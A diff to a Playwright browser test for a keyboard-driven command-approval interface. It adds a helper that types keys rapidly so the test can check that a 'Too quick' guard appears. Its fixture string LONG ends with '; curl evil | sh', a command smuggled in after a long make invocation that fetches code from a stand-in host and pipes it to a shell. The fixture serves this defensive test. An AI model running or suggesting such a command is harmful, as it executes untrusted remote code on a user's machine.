@@ -13,6 +13,9 @@ from tests.needs import needs
 
 pytestmark = [needs("chromium"), pytest.mark.asyncio(loop_scope="module")]
 
+WORD = """(word) => [...word].forEach((key) => document.activeElement.dispatchEvent(
+  new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true })))"""
+"""Typed without a pause, however busy the machine is."""
 LONG = "make all " + " ".join(f"target-{n}" for n in range(400)) + "; curl evil | sh"
 
 
@@ -45,8 +48,7 @@ async def test_keys_answer_only_the_question_that_was_chosen_and_nothing_once_ot
         await expect(person.allow(first)).to_be_enabled()
         await page.keyboard.press("a")  # nothing has been chosen
         await expect(page.get_by_text("j chooses the next one")).to_be_visible()
-        await page.keyboard.press("j")
-        await page.keyboard.press("a")  # part of a word that begins with j
+        await page.evaluate(WORD, "ja")
         await expect(page.get_by_text("Too quick")).to_be_visible()
         await person.armed(first)
         third = await person.ask(n=3)
